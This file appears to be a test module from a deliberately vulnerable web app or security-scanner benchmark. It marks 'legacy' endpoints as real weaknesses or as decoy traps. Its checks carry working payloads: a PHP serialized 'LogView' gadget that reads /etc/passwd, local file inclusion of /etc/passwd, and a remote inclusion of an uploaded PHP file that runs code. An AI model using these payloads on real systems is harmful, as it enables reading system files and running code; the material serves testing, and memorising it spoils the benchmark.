import { listModule, trap, weakness } from '../listed.ts'
import { q } from './payloads.ts'

const gadget = Buffer.from('O:7:"LogView":1:{s:4:"file";s:11:"/etc/passwd";}').toString('base64')
/** The portal serves this file, which PHP executes if included. */
const code = { name: 'code.txt', text: '<?php echo 123 * 3;' }

export const legacyList = listModule('legacy', [
  weakness(
    ['file-inclusion', 'GET /legacy/widget', 'file', 'included, files and URLs'],
    async ({ origin, post, get }) => {
      await post('/notes/save', code)
      const url = `${origin}/notes/read?name=${code.name}`
      const isRead = (await get('/legacy/widget?file=/etc/passwd')).text.includes('root:')
      return isRead && (await get(`/legacy/widget?file=${q(url)}`)).text.includes('369')
    },
  ),
  weakness(['deserialization', 'GET /legacy/basket', 'basket', 'a cookie, unserialized'], async ({ get }) =>
    (await get('/legacy/basket', { cookie: `basket=${q(gadget)}` })).text.includes('root:'),
  ),
  trap(
    ['deserialization', 'POST /legacy/order', 'state', 'a hidden field in base64, JSON inside'],
    async ({ post }) => (await post('/legacy/order', { state: gadget, note: '' })).text.includes('root:'),
  ),
  trap(['file-inclusion', 'GET /legacy/panel', 'name', 'one of a list'], async ({ get }) =>
    (await get('/legacy/panel?name=/etc/passwd')).text.includes('root:'),
  ),
  trap(
    ['deserialization', 'POST /legacy/wishes', 'state', 'unserialized without classes'],
    async ({ post }) => (await post('/legacy/wishes', { state: gadget })).text.includes('root:'),
  ),
])
